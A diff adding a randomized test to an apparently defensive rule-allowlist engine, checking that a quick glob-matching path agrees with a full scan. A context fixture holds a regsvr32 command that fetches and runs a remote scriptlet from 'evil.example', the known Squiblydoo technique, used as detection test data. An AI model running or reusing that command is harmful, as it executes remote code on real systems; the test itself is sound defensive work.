@@ -227,3 +227,32 @@ def test_column_table_drives_header_folding_and_facts():
         "command_line": ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
         "module": ("c:\\users\\public\\a.dll",), "url_host": ("evil.example",),
         "user": ("corp\\alice",), "host": ("ws01",)}
+
+
+@pytest.mark.parametrize("seed", range(4))
+def test_a_short_list_tested_first_for_its_pieces_agrees_with_a_full_scan(seed):
+    # Up to Allowlist.QUICK pieces a column, a value is tested for them before the index: whole
+    # cells, starts, ends and substrings, with ? in them; the rows that clear a finding are the
+    # ones a scan of every row finds.
+    rnd = random.Random(seed)
+    alphabet = "ab\\c.1 "
+    words = ["".join(rnd.choice(alphabet) for _ in range(rnd.randint(1, 7))) for _ in range(12)]
+    entries = []
+    for line in range(2, 14):
+        parts = rnd.sample(words, rnd.randint(1, 2))
+        cell = rnd.choice(["*", "", "?", "?*"]) + "*".join(parts) + rnd.choice(["*", "", "?", "*?"])
+        entries.append(Entry(Glob(rnd.choice(["*", "r32-006", "r32-04?"])), (("module", Glob(cell)),),
+                             "r", "", None, "x.csv", line))
+    allowlist = Allowlist(entries)
+    assert "module" in allowlist._quick
+    found = 0
+    for _ in range(600):
+        value = "".join(rnd.choice(words + [rnd.choice(alphabet)]) for _ in range(rnd.randint(1, 4)))
+        facts = {"module": (value,)}
+        for rule_id in ("R32-006", "R32-048"):
+            want = next((e for e in entries if e.rule.match(rule_id.lower()) and e.matches(facts)),
+                        None)
+            got = allowlist.suppress([rule_id], facts, datetime.date(2026, 1, 1)).get(rule_id)
+            assert got is want, (value, rule_id, want and want.line, got and got.line)
+            found += want is not None
+    assert 20 < found < 1100
